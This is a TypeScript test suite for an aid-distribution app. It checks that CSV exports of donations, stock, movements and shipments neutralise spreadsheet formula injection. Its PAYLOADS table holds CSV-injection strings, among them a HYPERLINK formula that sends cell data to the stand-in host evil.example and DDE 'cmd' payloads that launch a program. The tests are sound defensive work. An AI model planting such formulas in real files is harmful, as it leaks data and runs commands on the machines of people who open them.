import { parse } from 'csv-parse/sync';
import { Types } from 'mongoose';
import request from 'supertest';
import { csvCast } from '../../server/src/exports/exports.routes';
import { Location } from '../../server/src/locations';
import { startTestApp, type TestApp } from '../support/app';
import { stockWorld, type StockWorld } from '../support/stock';

/*
 * CSV injection (OWASP): text a user typed that starts with `=`, `+`, `-`, `@`, a tab or a
 * carriage return is read by a spreadsheet as a formula. Every export writes such a cell with a
 * leading `'`; numbers stay numbers.
 */

// What an attacker types, by first character (the examples).
const PAYLOADS: Record<string, string> = {
  '=': '=HYPERLINK("http://evil.example/?leak="&C2,"Erlan")',
  '+': "+cmd|' /C calc'!A0",
  '-': "-2+3+cmd|' /C calc'!A0",
  '@': "@SUM(1+1)*cmd|' /C calc'!A0",
};
const DANGEROUS = /^[=+\-@\t\r]/;

type Row = Record<string, string>;
const tables = (text: string, hxl: boolean): Row[] => {
  const [header, ...rest] = parse(text, { bom: true, relax_quotes: true }) as string[][];
  return (hxl ? rest.slice(1) : rest).map((r) => Object.fromEntries(header!.map((h, i) => [h, r[i] ?? ''])));
};

let app: TestApp;
let w: StockWorld;
beforeAll(async () => {
  app = await startTestApp();
  w = await stockWorld(app.url);
});
afterAll(() => app.close());

const download = async (kind: string, query: Record<string, string>, hxl: boolean): Promise<Row[]> => {
  const res = await request(app.url)
    .get(`/api/exports/${kind}.csv`)
    .query({ ...query, ...(hxl ? { format: 'hxl' } : {}) })
    .set(w.organiser.auth)
    .buffer(true)
    .parse((r, done) => {
      const chunks: Buffer[] = [];
      r.on('data', (c: Buffer) => chunks.push(c));
      r.on('end', () => done(null, Buffer.concat(chunks).toString('utf8')));
    });
  expect(res.status).toBe(200);
  return tables(res.body as string, hxl);
};

/** No cell of any row starts like a formula, and `column` holds the payload behind a `'`. */
const expectNeutralised = (rows: Row[], column: string, payload: string) => {
  expect(rows.length).toBeGreaterThan(0);
  // Numbers stay numbers (a -1 write-off is -1); every other cell must not read as a formula.
  for (const row of rows) {
    for (const cell of Object.values(row)) if (!/^-?\d+$/.test(cell)) expect(cell).not.toMatch(DANGEROUS);
  }
  expect(rows.map((r) => r[column])).toContain(`'${payload}`);
};

describe('The CSV cell writer', () => {
  test.each(['=', '+', '-', '@', '\t', '\r'])('When text starts with %j, then it is written behind a quote', (c) => {
    expect(csvCast.string(`${c}1+1`)).toBe(`'${c}1+1`);
  });
  test('When a cell is a number, a date or harmless text, then it is written as it is', () => {
    expect(csvCast.number(-5)).toBe('-5');
    expect(csvCast.string('2026-01-05T10:00:00.000Z')).toBe('2026-01-05T10:00:00.000Z');
    expect(csvCast.string('Айгуль =1')).toBe('Айгуль =1');
  });
});

describe.each([false, true])('GET /api/exports/*.csv (hxl: %s)', (hxl) => {
  test.each(Object.entries(PAYLOADS))(
    'When a donor name starts with %j, then donations.csv writes it as text',
    async (c, payload) => {
      const donation = await w.donate([{ itemId: w.water.id, quantity: 3 }], {
        donor: { kind: 'person', name: `${payload} ${c}${hxl}` },
      });
      const rows = (await download('donations', { campaignId: w.campaign.id }, hxl)).filter(
        (r) => r.donation_id === donation.id,
      );
      expectNeutralised(rows, 'donor', `${payload} ${c}${hxl}`);
    },
  );

  test.each(Object.entries(PAYLOADS))(
    'When a place name starts with %j, then stock.csv writes it as text',
    async (c, payload) => {
      const name = `${payload} склад ${c}${hxl}`;
      const place = await request(app.url)
        .post('/api/locations')
        .set(w.organiser.auth)
        .send({ name, kind: 'warehouse', address: `${payload} улица` })
        .expect(201);
      await w.donate([{ itemId: w.water.id, quantity: 2 }], { locationId: place.body.id });
      const rows = await download('stock', { locationId: place.body.id }, hxl);
      expectNeutralised(rows, 'location', name);
    },
  );

  test.each(Object.entries(PAYLOADS))(
    'When a write-off note or an adjustment reason starts with %j, then movements.csv writes it as text and the -5 stays a number',
    async (c, payload) => {
      const donation = await w.donate([{ itemId: w.water.id, quantity: 10 }]);
      const lotId = donation.lines[0]!.lotId;
      await request(app.url)
        .post('/api/stock/write-offs')
        .set(w.coordinator.auth)
        .send({ locationId: w.point.id, lotId, quantity: 1, reason: 'other', note: `${payload} ${c}` })
        .expect(201);
      const stock = await request(app.url)
        .get('/api/stock')
        .query({ locationId: w.point.id, itemId: w.water.id, limit: 200 })
        .set(w.coordinator.auth);
      const onHand = (stock.body.items as { lotId: string; onHand: number }[]).find((r) => r.lotId === lotId)!.onHand;
      await request(app.url)
        .post('/api/stock/adjustments')
        .set(w.coordinator.auth)
        .send({ locationId: w.point.id, lotId, countedQuantity: onHand - 5, reason: `${payload} пересчёт` })
        .expect(201);
      const rows = await download('movements', { lotId }, hxl);
      expectNeutralised(rows, 'note', `${payload} ${c}`);
      expectNeutralised(rows, 'reason', `${payload} пересчёт`);
      const adjusted = rows.find((r) => r.kind === 'adjusted')!;
      expect(adjusted.quantity).toBe('-5');
      expect(rows.find((r) => r.kind === 'written_off')!.quantity).toBe('-1');
    },
  );

  test.each(Object.entries(PAYLOADS))(
    'When a driver names himself %j through PATCH /api/users/me, then shipments.csv writes his name, the plate and the address as text',
    async (c, payload) => {
      const driverName = `${payload} ${c}${hxl}`;
      await request(app.url).patch('/api/users/me').set(w.driver.auth).send({ name: driverName }).expect(200);
      const destination = await request(app.url)
        .post('/api/locations')
        .set(w.organiser.auth)
        .send({ name: `Раздача ${c}${hxl} ${Date.now()}`, kind: 'distribution_point', address: `${payload} адрес` })
        .expect(201);
      await w.donate([{ itemId: w.water.id, quantity: 5 }]);
      const shipment = await request(app.url)
        .post('/api/shipments')
        .set(w.coordinator.auth)
        .send({
          campaignId: w.campaign.id,
          originId: w.point.id,
          destinationId: destination.body.id,
          driverId: w.driver.user.id,
          vehicle: { plate: `${payload.slice(0, 12)}`, kind: 'truck' },
          lines: [{ itemId: w.water.id, quantity: 5 }],
        });
      expect(shipment.status).toBe(201);
      const rows = (await download('shipments', { driverId: w.driver.user.id }, hxl)).filter(
        (r) => r.shipment_id === shipment.body.id,
      );
      expectNeutralised(rows, 'driver', driverName);
      expectNeutralised(rows, 'vehicle_plate', payload.slice(0, 12));
      expectNeutralised(rows, 'destination_address', `${payload} адрес`);
    },
  );

  test.each(['\t', '\r'])(
    'When stored text starts with %j (written before the API trimmed it), then every export writes it as text',
    async (c) => {
      const donation = await w.donate([{ itemId: w.water.id, quantity: 1 }]);
      const name = `${c}=1+1 ${hxl}`;
      await Location.collection.updateOne(
        { _id: new Types.ObjectId(w.point.id) },
        { $set: { name, address: `${c}@адрес` } },
      );
      try {
        const donations = (await download('donations', { campaignId: w.campaign.id }, hxl)).filter(
          (r) => r.donation_id === donation.id,
        );
        expectNeutralised(donations, 'location', name);
        expectNeutralised(donations, 'address', `${c}@адрес`);
        expectNeutralised(await download('stock', { locationId: w.point.id }, hxl), 'location', name);
        expectNeutralised(await download('movements', { donationId: donation.id }, hxl), 'location', name);
      } finally {
        await Location.collection.updateOne({ _id: new Types.ObjectId(w.point.id) }, { $set: { name: w.point.name } });
      }
    },
  );
});
